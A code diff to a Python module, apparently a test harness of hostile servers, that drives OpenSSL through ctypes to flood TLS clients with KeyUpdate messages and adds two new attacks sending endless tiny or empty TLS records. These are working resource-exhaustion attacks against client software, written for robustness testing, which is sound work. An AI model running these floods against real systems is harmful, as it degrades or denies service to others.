@@ -1,6 +1,6 @@
-"""Attacks by TLS 1.3's KeyUpdate (RFC 8446 §4.6.3), which Python's own TLS cannot send.
+"""Attacks by TLS records: ones that carry little, and KeyUpdate messages (RFC 8446 §4.6.3).
 
-So the server's end of these connections is OpenSSL itself, the library that curl links, too.
+Python's own TLS cannot send the latter, so the server's end of these connections is OpenSSL itself.
 """
 
 from __future__ import annotations
@@ -8,13 +8,14 @@ from __future__ import annotations
 import ctypes
 import pathlib
 import socket
+from collections.abc import Callable
 
 from servers.http1 import CHUNKED, EVENT, chunk, head
 from servers.peer import Peer, attack
-from servers.websockets import handshake
+from servers.websockets import FIN, TEXT, frame, handshake
 
 FILETYPE_PEM, UPDATE_NOT_REQUESTED, UPDATE_REQUESTED = 1, 0, 1
-#: Records that are sent together: 27 bytes each.
+#: So many records are made and then sent together.
 RECORDS_AT_ONCE = 2000
 
 
@@ -70,15 +71,24 @@ class Connection(socket.socket):
             raise OSError("SSL_write failed")
 
     def flood_key_updates(self, kind: int) -> None:
-        """Nothing else can be sent from here on."""
+        def make_record() -> None:
+            self.library.short.SSL_key_update(self._tls, kind)
+            self.library.short.SSL_do_handshake(self._tls)
+
+        self._flood(make_record)
+
+    def flood_records(self, data: bytes) -> None:
+        """Repeats `data`, each time in a record of its own."""
+        self._flood(lambda: self.library.short.SSL_write(self._tls, data, len(data)))
+
+    def _flood(self, make_record: Callable[[], None]) -> None:
         short = self.library.short
         records = short.BIO_new(short.BIO_s_mem())
         short.SSL_set0_wbio(self._tls, records)
-        data = ctypes.create_string_buffer(1 << 16)
+        data = ctypes.create_string_buffer(1 << 17)
         while True:
             for _ in range(RECORDS_AT_ONCE):
-                short.SSL_key_update(self._tls, kind)
-                short.SSL_do_handshake(self._tls)
+                make_record()
             count = short.BIO_read(records, data, len(data))
             super().sendall(memoryview(data)[:count])
 
@@ -112,3 +122,18 @@ def key_updates_unread(peer: Peer) -> None:
 def key_updates_unasked(peer: Peer) -> None:
     """No answer is wanted."""
     greet(peer).flood_key_updates(UPDATE_NOT_REQUESTED)
+
+
+@attack
+def small_records(peer: Peer) -> None:
+    """A message, or a chunk of an empty comment, in each record."""
+    connection = greet(peer)
+    peer.drain()
+    is_websocket = peer.transport == "websocket"
+    connection.flood_records(frame(FIN | TEXT, b"a") if is_websocket else chunk(b":\n"))
+
+
+@attack
+def empty_records(peer: Peer) -> None:
+    """Records without content (RFC 8446 §5.1)."""
+    greet(peer).flood_records(b"")
